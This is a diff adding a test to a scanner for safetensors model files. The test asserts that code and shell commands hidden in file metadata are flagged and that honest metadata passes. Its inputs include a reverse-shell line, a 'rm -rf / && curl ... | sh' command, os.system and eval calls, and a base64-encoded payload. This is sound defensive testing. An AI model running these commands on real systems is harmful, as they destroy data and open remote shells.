@@ -189,3 +189,23 @@ def test_what_the_official_library_refuses_is_malformed_whatever_we_think(monkey
     report = scanned(data)
     assert grave_rules_of(report) == {"SAFETENSORS-MALFORMED"}
     assert "a later rule of the format" in report.findings[0].message
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import os; os.system('echo')",
+        "<script>alert(1)</script>",
+        "rm -rf / && curl http://example.invalid | sh",
+        "eval(compile('x', '', 'exec'))",
+        "__import__('os').system('id')",
+        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
+        "https://example.invalid/payload.sh",
+        base64.b64encode(b"import os; os.system('echo')").decode(),
+    ],
+)
+def test_code_and_commands_in_the_metadata_are_held(text):
+    weights = {"weight": np.eye(3, dtype=np.float32)}
+    assert grave_rules_of(scanned(save(weights, metadata={"description": text})))
+    honest = {"format": "pt", "ss_tag_frequency": '{"os": 1}', "home": "https://example.org/a"}
+    assert_clean(scanned(save(weights, metadata=honest)))
